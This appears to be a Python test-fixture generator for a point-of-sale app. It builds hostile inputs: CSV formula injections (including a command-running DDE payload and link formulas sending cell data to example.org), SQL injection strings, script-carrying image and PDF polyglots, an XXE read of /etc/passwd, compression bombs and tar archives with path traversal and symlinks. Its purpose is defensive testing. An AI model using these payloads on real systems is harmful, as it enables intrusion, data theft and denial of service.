"""Texts, files and bodies that would do something if they were taken for more than they are. Each carries a mark by which it is found again."""

import gzip
import hashlib
import io
import json
import struct
import tarfile
import zipfile
import zlib

BEGINNINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", " =", '"=', "'=", "'\"=", "''=", "\t=", "\r=", "\n=", "\v=", "\f@", ";=", "x;=", "x\t+", "x\n-", "x,=", '";"=', '"\t@', "-1+", "=-", "+4", "|="]
REST = ['HYPERLINK("http://example.org/?"&A1)', "cmd|' /C calc'!A0", "SUM(1+1)*", "1+1", 'WEBSERVICE("http://example.org")', "A1&"]
QUERIES = ["' OR '1'='1", "'; DROP TABLE orders; --", '"; DELETE FROM users; --', "') UNION SELECT password_hash FROM users --", "%", "_", "%%", "\\", "\\%", "$1", "{}", "{$1}", "?", ":x", "/* */", "--",
           "E'\\\\'", "'||(SELECT 1)||'", "1; SELECT pg_sleep(9); --", "' AND 1=CAST((SELECT version()) AS int) --", "x' ESCAPE '\\", "a_b%c", "''", '"', "`", "1e999", "NULL", "TRUE", "\u2019 OR 1=1", "\uff07 OR 1=1",
           "' COLLATE NOCASE --", "'; ATTACH DATABASE 'evil.db' AS evil; --", "$$;COPY users TO '/tmp/evil';$$", "\\x27 OR 1=1", "%27 OR 1=1", "\u0000' OR 1=1"]
OVERLONG = [b"\xc0\xa7 OR 1=1", b"\xe0\x80\xa7 OR 1=1", b"\xf0\x80\x80\xa7 OR 1=1", b"\xff\xfe'", b"\xbf\x27 OR 1=1", b"\xed\xa0\x80'", b"a\x00' OR 1=1"]


def formula(chance, mark):
    return chance.choice(BEGINNINGS) + chance.choice(REST) + mark


# ---- pictures

def png(width=2, height=2, more=b"", pixels=None):
    def part(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
    extra = b"".join(part(kind, content) for kind, content in more) if more else b""
    pixels = zlib.compress(b"\0\xff\0\0\xff\0\0" * 2) if pixels is None else pixels
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + extra + part(b"IDAT", pixels) + part(b"IEND", b"")


def jpeg(segments=(), width=8, height=8):
    """Eight by eight grey points."""
    def part(kind, content):
        return b"\xff" + bytes([kind]) + struct.pack(">H", len(content) + 2) + content
    return (b"\xff\xd8" + b"".join(part(*one) for one in segments) + part(0xDB, b"\0" + b"\1" * 64) + part(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0")
            + part(0xC4, b"\0\1" + bytes(15) + b"\0") + part(0xC4, b"\x10\1" + bytes(15) + b"\0") + part(0xDA, b"\1\1\0\0\x3f\0") + b"\x3f\xff\xd9")


def jpeg_of_passes(count, side=3500):
    """Progressive, grey, and each pass a few bytes that say that nothing changes."""
    blocks = ((side + 7) // 8) ** 2
    whole, nothing = jpeg(width=side, height=side).replace(b"\xff\xc0", b"\xff\xc2"), "0" + "1" * 14
    runs = nothing * -(-blocks // 32767)
    scan = int(runs + "1" * (-len(runs) % 8), 2).to_bytes(-(-len(runs) // 8)).replace(b"\xff", b"\xff\0")
    begin = whole.index(b"\xff\xda")
    tables = whole[:begin].replace(b"\x10\1" + bytes(15) + b"\0", b"\x10\1" + bytes(15) + b"\xe0")
    return tables + b"\xff\xda\0\x08\1\1\0\0\0\0" + bytes(blocks // 8 + 1) + (b"\xff\xda\0\x08\1\1\0\1\1\0" + scan) * count + b"\xff\xd9"


def gif(frames=1, size=(1, 1), more=b""):
    frame = b"\x21\xf9\x04\x04\x0a\0\0\0" + b"\x2c\0\0\0\0\1\0\1\0\0" + b"\x02\x02\x44\x01\0"
    return b"GIF89a" + struct.pack("<HH", *size) + b"\x80\0\0" + b"\0\0\0\xff\xff\xff" + more + frame * frames + b";"


def webp(chunks=b"", canvas=None):
    picture = b"VP8L\r\0\0\0/\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0" + b"\0"
    if chunks or canvas:
        side = (canvas or 1) - 1
        picture = b"VP8X\n\0\0\0" + bytes([0x0C if chunks else 0, 0, 0, 0]) + struct.pack("<I", side)[:3] * 2 + picture + chunks
    return b"RIFF" + struct.pack("<I", len(picture) + 4) + b"WEBP" + picture


def zip_of(mark):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("evil.js", f"alert('{mark}')")
    return file.getvalue()


def polyglots(mark):
    """(name, bytes) of pictures that are something else, too."""
    html = f"<html><script>alert('{mark}')</script></html>".encode()
    script = f"*/=1;alert('{mark}');/*".encode()
    pdf = f"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert('{mark}'))>>>>endobj\n".encode()
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{mark}")</script></svg>'.encode()
    entities = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;{mark}</text></svg>'.encode()
    exif = b"Exif\0\0MM\0*\0\0\0\x08\0\1\1\x0e\0\2" + struct.pack(">II", len(html), 26) + bytes(4) + html
    profile = b"mark\0\0" + zlib.compress(html)
    behind = {"html": html, "zip": zip_of(mark), "pdf": pdf, "php": b"<?php echo '" + mark.encode() + b"'; ?>"}
    for name, whole in (("png", png()), ("jpg", jpeg()), ("gif", gif()), ("webp", webp())):
        for what, tail in behind.items():
            yield f"{what}-behind.{name}", whole + tail
            yield f"{what}-before.{name}", tail + whole
            yield f"{name}-called.{what}", whole + tail
    yield from ((f"{kind}.jpg", jpeg([(number, content)])) for kind, number, content in (
        ("comment", 0xFE, html), ("exif", 0xE1, exif), ("xmp", 0xE1, b"http://ns.adobe.com/xap/1.0/\0" + svg), ("icc", 0xE2, b"ICC_PROFILE\0\1\1" + html), ("photoshop", 0xED, b"Photoshop 3.0\0" + html),
        ("flashpix", 0xE2, b"FPXR\0" + html), ("unknown", 0xEF, script)))
    yield from ((f"{kind.decode()}.png", png(more=[(kind, content)])) for kind, content in (
        (b"tEXt", b"Comment\0" + html), (b"zTXt", b"Comment\0\0" + zlib.compress(html)), (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + svg), (b"eXIf", exif[6:]), (b"iCCP", profile), (b"evIl", html)))
    yield "comment.gif", gif(more=b"\x21\xfe" + bytes([len(html)]) + html + b"\0")
    yield "application.gif", gif(more=b"\x21\xff\x0bXMP DataXMP" + bytes([len(svg)]) + svg + b"\0")
    yield "script.gif", b"GIF89a=" + script + gif()[7:]
    yield "script-size.gif", gif(size=(0x2A2F, 1), more=b"\x21\xfe" + bytes([len(script)]) + script + b"\0")
    for kind, content in ((b"EXIF", exif[6:]), (b"XMP ", svg), (b"ICCP", html)):
        yield f"{kind.decode().strip()}.webp", webp(kind + struct.pack("<I", len(content)) + content + bytes(len(content) % 2))
    for name, content in (("a.svg", svg), ("svg.png", svg), ("entities.svg", entities), ("page.html", html), ("page.jpg", html), ("a.pdf", pdf), ("a.bmp", b"BM" + html), ("a.tiff", b"II*\0\x08\0\0\0\0\0" + html),
                          ("a.ico", b"\0\0\1\0" + html), ("a.mvg", b"push graphic-context\nimage over 0,0 0,0 'https://example.org'\n" + html), ("a.eps", b"%!PS-Adobe-3.0\n" + html), ("a.heic", b"\0\0\0\x18ftypheic" + html)):
        yield name, content


# ---- what holds more than it seems to

def deflated(size, byte=b"\0"):
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(byte * (1 << 20)) for _ in range(size >> 20)) + packer.flush()


def heavy_pictures():
    yield "30000 × 30000 of no points", png(30000, 30000, pixels=zlib.compress(b"\0" * 1000))
    yield "30000 × 30000 of zeros", png(30000, 30000, pixels=deflated(256 << 20))
    yield "2 × 2^31", png(2, 0x7FFFFFFF)
    yield "a profile of 200 MB", png(more=[(b"iCCP", b"x\0\0" + deflated(200 << 20))])
    yield "a comment of 200 MB", png(more=[(b"zTXt", b"x\0\0" + deflated(200 << 20))])
    yield "40 comments of 7 MB", png(more=[(b"zTXt", b"x\0\0" + deflated(7 << 20))] * 40)
    yield "40 texts of 7 MB", png(more=[(b"iTXt", b"x\0\1\0\0\0" + deflated(7 << 20))] * 40)
    yield "20,000 passes over a JPEG", jpeg_of_passes(20_000)
    yield "100,000 comments", png(more=[(b"tEXt", b"x\0y")] * 100_000)
    yield "65500 × 65500 JPEG", jpeg(width=65500, height=65500)
    yield "100,000 frames", gif(frames=100_000)
    yield "a GIF of 65535 × 65535", gif(size=(65535, 65535))
    yield "300 frames of 10000 × 10000", gif(frames=300, size=(10000, 10000))
    yield "a WebP of 16384 × 16384", webp(canvas=16384)


def heavy_bodies():
    """(what, kind, encoding, body) for a route that takes JSON."""
    yield "nested lists", "application/json", None, b"[" * 500_000
    yield "nested objects", "application/json", None, b'{"a":' * 200_000
    yield "nested in a member", "application/json", None, b'{"items":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    yield "a long number", "application/json", None, b'{"items":[{"quantity":' + b"9" * 900_000 + b"}]}"
    yield "many members", "application/json", None, b"{" + b",".join(b'"m%d":1' % number for number in range(60_000)) + b"}"
    yield "one member many times", "application/json", None, b"{" + b",".join([b'"items":[]'] * 60_000) + b"}"
    yield "gzip of 200 MB", "application/json", "gzip", gzip.compress(b" " * (200 << 20), 9)
    yield "deflate of 200 MB", "application/json", "deflate", deflated(200 << 20, b" ")
    yield "a form of many fields", "application/x-www-form-urlencoded", None, b"&".join(b"a%d=1" % number for number in range(60_000))


def heavy_tables():
    """For a route that takes CSV."""
    head = b"name,size,price,category\n"
    yield "a zip", zip_of("x") + b"\0" * 1000
    yield "gzip of 200 MB", gzip.compress(b"a,b\n" * (50 << 20), 9)
    yield "many columns", b"name,size,price" + b",x" * 400_000 + b"\nA,B,1\n"
    yield "one long cell", head + b"A" * 4_000_000 + b",S,1,Food\n"
    yield "an open quote", head + b'"' + b"A,S,1,Food\n" * 300_000
    yield "many quotes", head + b'""' * 1_000_000
    yield "many empty lines", head + b"\n" * 2_000_000


# ---- archives

SEAL = b"\x1f\x8b\x08\x10\0\0\0\0\0\xffcafepos-backup sha256 %s\0\x03\0\0\0\0\0\0\0\0\0"


def sealed(packed):
    """As a backup of ours ends, so that nothing but what is in it can be what it is refused for."""
    return packed + SEAL % hashlib.sha256(packed).hexdigest().encode()


def members_of(backup):
    with tarfile.open(fileobj=io.BytesIO(backup), mode="r:gz") as archive:
        return [(entry.name, archive.extractfile(entry).read()) for entry in archive]


def archive_of(members):
    """A member is (name, bytes), or (tar entry, bytes)."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for what, content in members:
            entry = what
            if isinstance(what, str):
                entry = tarfile.TarInfo(what)
                entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return sealed(gzip.compress(file.getvalue(), 1))


def entry(name, kind, target="", size=0):
    made = tarfile.TarInfo(name)
    made.type, made.linkname, made.size = kind, target, size
    return made


def many_heads(count):
    """Of empty pictures."""
    head = entry("uploads/menu_items/000000.png", tarfile.REGTYPE).tobuf(tarfile.USTAR_FORMAT)
    total = int(head[148:154], 8)
    return b"".join(b"uploads/menu_items/%06d.png" % number + head[29:148] + b"%06o" % (total + sum(map(int, str(number)))) + head[154:] for number in range(count))


def archives(chance, good, outside, mark, everything):
    """(what, bytes) of backups that must not be taken: each is the good one and something more or else. `outside` must stay away."""
    members, text = members_of(good), mark.encode()
    names = [name for name, _ in members]
    rows, picture = next(name for name in names if name.startswith("rows/menu_items/")), next(name for name in names if name.startswith("uploads/"))
    content = dict(members)
    for name in chance.sample(("../evil", "../../../../../../" + outside, outside, "uploads/menu_items/../../../evil.png", "uploads/../data/secret", "uploads/menu_items/.hidden", "uploads/evil.png", "uploads/elsewhere/evil.png",
                 "rows/../../evil", "rows/no_such_table/000001.tsv", "data/secret", "evil", "", "uploads/menu_items/a/b.png", "uploads/menu_items/ä.png", "./secret", "SECRET", "C:\\evil", "uploads\\evil.png"), 19 if everything else 8):
        yield f"a member {name!r}", archive_of(members + [(name, text)])
    for kind, what in ((tarfile.SYMTYPE, "a link"), (tarfile.LNKTYPE, "a hard link"), (tarfile.CHRTYPE, "a device"), (tarfile.BLKTYPE, "a disk"), (tarfile.FIFOTYPE, "a pipe"), (tarfile.DIRTYPE, "a folder")):
        for more in (False, True) if everything else (chance.random() < 0.5,):
            name = chance.choice(["uploads/menu_items/evil.png", "rows/orders/999999.tsv", "rows/refunds/999999.tsv", "secret" if more else "uploads/thumbnails/evil.jpg"])
            yield f"{what} {name}{', and then that file' * more}", archive_of(members + [(entry(name, kind, outside), b"")] + [(name, text)] * more)
    yield "rows twice", archive_of(members + [(rows, content[rows])])
    yield "a manifest twice", archive_of([members[0]] + members)
    yield "a secret twice", archive_of(members + [("secret", text)])
    yield "another picture of the same name", archive_of(members + [(picture, text)])
    yield "rows of another table's form", archive_of([(name, content[rows] if name.startswith("rows/orders") else one) for name, one in members])
    yield "rows that end in the middle", archive_of([(name, one[:-3] if name == rows else one) for name, one in members])
    yield "no manifest", archive_of(members[1:])
    yield "a manifest at the end", archive_of(members[1:] + members[:1])
    yield "a manifest of deep JSON", archive_of([(members[0][0], b"[" * 200_000)] + members[1:])
    manifest = json.loads(members[0][1])
    yield "a newer format", archive_of([(members[0][0], json.dumps(manifest | {"format": 99}).encode())] + members[1:])
    yield "a table of a strange name", archive_of([(members[0][0], json.dumps(manifest | {"tables": manifest["tables"] + [{"name": 'x"; DROP TABLE users; --', "columns": ["a"], "rows": 0}]}).encode())] + members[1:])
    whole = gzip.decompress(good[:-len(SEAL) + 2 - 64])
    unended = whole.rstrip(b"\0") + bytes(-len(whole.rstrip(b"\0")) % 512)
    header = entry("uploads/menu_items/huge.png", tarfile.REGTYPE, size=1 << 40).tobuf(tarfile.GNU_FORMAT)
    yield "a member that says it has a TB", sealed(gzip.compress(unended + header, 1))
    if everything:  # they fill the disk first, up to the limit
        yield "many members", sealed(gzip.compress(unended + many_heads(201_000) + bytes(1024), 1))
        zeros = gzip.compress(bytes(200 << 20), 1)
        yield "1.4 GB of zeros", sealed(gzip.compress(unended, 1) + b"".join(
            gzip.compress(entry(f"uploads/menu_items/zeros{number}.png", tarfile.REGTYPE, size=200 << 20).tobuf()) + zeros for number in range(7)) + gzip.compress(bytes(1024)))
    yield "an open seal", good[:-1] + b"\1"
    yield "nothing before the seal", sealed(b"")
    yield "cut off", good[: len(good) // 2]
